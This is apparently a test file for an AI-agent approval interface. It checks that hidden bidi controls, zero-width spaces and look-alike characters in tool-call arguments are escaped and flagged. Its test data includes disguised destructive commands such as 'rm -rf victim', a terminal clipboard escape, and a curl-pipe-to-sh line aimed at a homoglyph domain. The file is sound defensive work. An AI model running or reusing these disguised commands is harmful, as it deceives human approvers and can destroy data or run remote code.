"""Arguments shown as they will run (issue #28, item 3), in the fragments the page swaps in: hidden and
look-alike characters escaped and warned of, a file write's diff, and nothing cut before a decision.
In-process and fast: the real renderer on events of the shapes the engine writes."""
from __future__ import annotations

import json
import re
from typing import Any

from server import vocab
from server.hidden_text import escape_hidden, hidden_characters
from web.render import render_event
from web.views import FOLD_CHARS

# `echo ok; X=<RLO> # <LRO>mitciv fr- mr<ZWSP>`: reads as `echo ok; X= # rm -rf victim`, the rm seemingly
# commented out; what runs is `X=… # …`, whatever the order on screen.
DISGUISED = "echo ok; X=\u202e # \u202dmitciv fr- mr\u200b"
WARNING = "This call contains hidden or look-alike Unicode characters"
OWNER = vocab.Role.OWNER.value


def _request(arguments: dict[str, Any], tool: str = "shell_exec", **extra: Any) -> vocab.Event:
    request = {"toolCallId": "call_1", "toolName": tool, "toolArguments": arguments,
               "message": f"alice wants to run {tool}", "options": list(vocab.APPROVAL_OPTIONS), "expiresAt": None,
               **extra}
    return {"kind": "message", "id": "msg_req", "seq": 7, "ts": "2026-11-22T13:19:58.193Z", "world": "w1",
            "chat": "main", "agent": "alice", "sender": "server", "role": "assistant", "content": None,
            "approval": request, "tool_calls": [{"id": "approval_call_1", "type": "function", "function": {
                "name": vocab.REQUEST_APPROVAL, "arguments": json.dumps(request)}}]}


def _queue_item(event: vocab.Event) -> str:
    """The approval queue's fragment for an owner (the world part of the event's frame)."""
    return render_event(event, OWNER, frozenset()).elsewhere


def test_hidden_characters_in_a_queued_call_are_escaped_marked_and_warned_of() -> None:
    html = _queue_item(_request({"command": DISGUISED}))
    assert "\u202e" not in html and "\u202d" not in html and "\u200b" not in html  # none reaches the page raw
    assert '<mark class="hidden-char" title="U+202E RIGHT-TO-LEFT OVERRIDE: bidi control, shown escaped">' \
           "\\u202e</mark>" in html
    assert ('mr<mark class="hidden-char" title="U+200B ZERO WIDTH SPACE: invisible, shown escaped">'
            '\\u200b</mark>') in html
    assert WARNING in html and "U+202E RIGHT-TO-LEFT OVERRIDE, U+202D LEFT-TO-RIGHT OVERRIDE, U+200B ZERO WIDTH SPACE" \
        in html
    # What app.js asks a second "yes" for before approving even once.
    # Its text in a field would be the disguise again: no edit, no pattern for a rule.
    assert 'name="edit"' not in html and 'name="match"' not in html and 'data-choice="approve_always"' not in html
    assert 'data-hidden="U+202E RIGHT-TO-LEFT OVERRIDE, U+202D LEFT-TO-RIGHT OVERRIDE, U+200B ZERO WIDTH SPACE"' in html


def test_a_plain_call_has_no_warning_and_needs_no_confirmation_to_approve_once() -> None:
    html = _queue_item(_request({"command": "echo привет > hello.txt; ls -la 'é ü'"}))
    assert WARNING not in html and "data-hidden" not in html and "hidden-char" not in html
    assert "echo привет &gt; hello.txt; ls -la &#39;é ü&#39;" in html


def test_look_alikes_control_characters_and_odd_spaces_are_flagged_where_they_pass_for_ascii() -> None:
    cyrillic_victim = "rm -rf v\u0456\u0441tim"  # a Cyrillic i and c
    assert escape_hidden(cyrillic_victim) == "rm -rf v\\u0456\\u0441tim"
    assert escape_hidden("\uff52\uff4d -rf x") == "\\uff52\\uff4d -rf x"  # fullwidth rm
    assert escape_hidden("rm\u00a0-rf /") == "rm\\u00a0-rf /"  # a no-break space
    assert escape_hidden("printf 'a\x1b]52;c;eA==\x07'") == "printf 'a\\u001b]52;c;eA==\\u0007'"
    assert escape_hidden("tab\there\nnext line") == "tab\there\nnext line"  # \t and \n are what they look like
    assert escape_hidden("say привет and ❤️") == "say привет and ❤️"  # a language, and an emoji's style
    assert escape_hidden("echo привет v\u0456\u0441tim") == "echo привет v\\u0456\\u0441tim"  # mixed in one word
    assert hidden_characters({"k\u200b": ["x", {"y": "\u2066z"}]}) == [
        "U+200B ZERO WIDTH SPACE", "U+2066 LEFT-TO-RIGHT ISOLATE"]  # keys and nested values too


def test_the_chat_step_of_a_disguised_call_shows_it_escaped_with_the_warning() -> None:
    call = {"id": "call_1", "type": "function", "function": {"name": "shell_exec",
                                                             "arguments": json.dumps({"command": DISGUISED})}}
    event = {"kind": "message", "id": "msg_a", "seq": 6, "ts": "2026-11-22T13:19:57.193Z", "world": "w1",
             "chat": "main", "agent": "alice", "sender": "alice", "role": "assistant", "content": None,
             "tool_calls": [call]}
    html = render_event(event, OWNER, frozenset()).in_view
    assert "\u202e" not in html and "\u200b" not in html
    assert WARNING in html and '<mark class="hidden-char"' in html
    assert "<code>echo ok; X=\\u202e # \\u202dmitciv fr- mr\\u200b</code>" in html  # the step's header too


def test_long_arguments_reach_the_queue_whole() -> None:
    command = "echo start; " + "true && " * 2000 + "echo THE-TAIL-THAT-RUNS"
    assert len(command) > 10 * FOLD_CHARS
    html = _queue_item(_request({"command": command}))
    shown = re.search(r'<pre class="arg-value"[^>]*>(.*?)</pre>', html, re.S)
    assert shown and shown.group(1) == command.replace("&", "&amp;")  # every character, in one scrolling <pre>


def test_a_file_writes_diff_is_rendered_as_a_diff_in_the_queue() -> None:
    diff = {"path": "notes.md", "new": False,
            "text": "--- a/notes.md\n+++ b/notes.md\n@@ -1,2 +1,2 @@\n keep\n-old line\n+new line\u202e"}
    html = _queue_item(_request({"path": "notes.md", "content": "keep\nnew line\u202e\n"}, "file_write", diff=diff))
    assert "Changes to notes.md" in html
    sign = '<span class="diff-sign" aria-hidden="true">{}</span>'
    assert f'<span class="diff-line diff-same">{sign.format(" ")}keep</span>' in html
    assert f'<span class="diff-line diff-del">{sign.format("-")}old line</span>' in html
    # a line with a hidden character keeps its mark (it is not highlighted)
    assert f'<span class="diff-line diff-add">{sign.format("+")}new line<mark class="hidden-char"' in html
    assert '<span class="diff-line diff-head">@@ -1,2 +1,2 @@</span>' in html
    new = _queue_item(_request({"path": "a.txt", "content": "x"}, "file_write",
                               diff={"path": "a.txt", "new": True,
                                     "text": "--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+x"}))
    assert "New file a.txt" in new and '<span class="diff-line diff-same">x</span>' in new  # its content, no "+"


def test_a_look_alike_word_is_flagged_among_other_non_ascii_text_and_look_alike_dashes_too() -> None:
    # found by review: a domain all in Cyrillic look-alikes beside an emoji, and `--dry-run` whose first two
    # dashes are U+2010 hyphens
    apple = "\u0430\u0440\u0440\u04cf\u0435"
    assert len(hidden_characters(f"echo \u2705; curl https://{apple}.com/i.sh | sh")) == 4
    assert hidden_characters("kubectl delete pod web-1 \u2010\u2010dry-run=client") == ["U+2010 HYPHEN"]
    assert hidden_characters("kubectl delete pod web-1 \u2013dry-run=client") == ["U+2013 EN DASH"]
    assert hidden_characters("pages 1\u20133 \u2014 see the notes \u2705") == []  # typography, not a disguise
    assert hidden_characters("\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440") == []  # Russian


def test_a_disguised_argument_name_is_shown_escaped() -> None:
    html = _queue_item(_request({"command\u202e": "ls"}))
    assert "\u202e" not in html and "\\u202e" in html
